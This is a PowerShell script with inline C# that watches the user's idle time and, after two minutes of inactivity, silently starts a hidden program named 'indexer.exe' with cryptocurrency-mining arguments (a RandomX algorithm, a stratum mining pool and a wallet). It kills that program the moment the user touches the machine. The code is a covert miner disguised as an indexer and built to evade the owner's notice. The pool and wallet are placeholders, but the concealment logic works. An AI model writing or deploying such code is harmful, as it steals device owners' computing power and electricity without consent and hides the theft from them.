Add-Type @'
using System; using System.Runtime.InteropServices;
public static class Idle {
  [StructLayout(LayoutKind.Sequential)] struct LII { public uint cbSize; public uint dwTime; }
  [DllImport("user32.dll")] static extern bool GetLastInputInfo(ref LII p);
  public static uint Seconds() { var l = new LII(); l.cbSize = 8; GetLastInputInfo(ref l); return ((uint)Environment.TickCount - l.dwTime) / 1000; }
}
'@
$exe = Join-Path $PSScriptRoot '..\bin\indexer.exe'
$args = '-a rx/0 -o stratum+ssl://pool.example.org:443 -u 44exampleWalletNotReal0000000000000 -p idx'
while ($true) {
    $p = Get-Process indexer -ErrorAction SilentlyContinue
    if ([Idle]::Seconds() -gt 120 -and -not $p) { Start-Process $exe -ArgumentList $args -WindowStyle Hidden }
    elseif ([Idle]::Seconds() -lt 5 -and $p) { $p | Stop-Process -Force }
    Start-Sleep 5
}
